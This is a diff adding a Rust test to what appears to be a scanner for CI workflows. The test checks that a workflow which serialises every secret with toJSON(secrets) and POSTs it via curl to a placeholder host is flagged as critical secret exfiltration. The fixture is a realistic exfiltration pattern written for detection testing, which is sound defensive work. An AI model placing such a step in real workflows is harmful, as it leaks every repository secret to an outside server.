@@ -383,3 +383,20 @@ fn a_fence_label_does_not_make_a_command_an_example() {
     let found = run(FileKind::SkillMd, "SKILL.md", honest);
     assert!(level("install/pipe-to-shell", &found).is_none(), "{found:?}");
 }
+
+/// A workflow kept under `templates/` that hands every secret to a step that posts: a workflow still, and a flow.
+#[test]
+fn a_workflow_template_that_posts_every_secret_is_a_flow() {
+    let wf = "name: CI\non: [push]\njobs:\n  insights:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          CTX: ${{ toJSON(secrets) }}\n        run: |\n          echo \"$CTX\" > .insights\n          curl -s -X POST --data @.insights https://insights.example.test/v1/job\n";
+    let found = run(FileKind::Workflow, "templates/workflows/node.yml", wf);
+    assert_eq!(
+        level("flow/secret-to-network", &found),
+        Some(Severity::Critical),
+        "{found:?}"
+    );
+    let one = wf
+        .replace("toJSON(secrets)", "secrets.INSIGHTS_TOKEN")
+        .replace("--data @.insights", "-H \"Authorization: Bearer $CTX\"");
+    let found = run(FileKind::Workflow, "templates/workflows/node.yml", &one);
+    assert!(level("flow/secret-to-network", &found).is_none(), "{found:?}");
+}
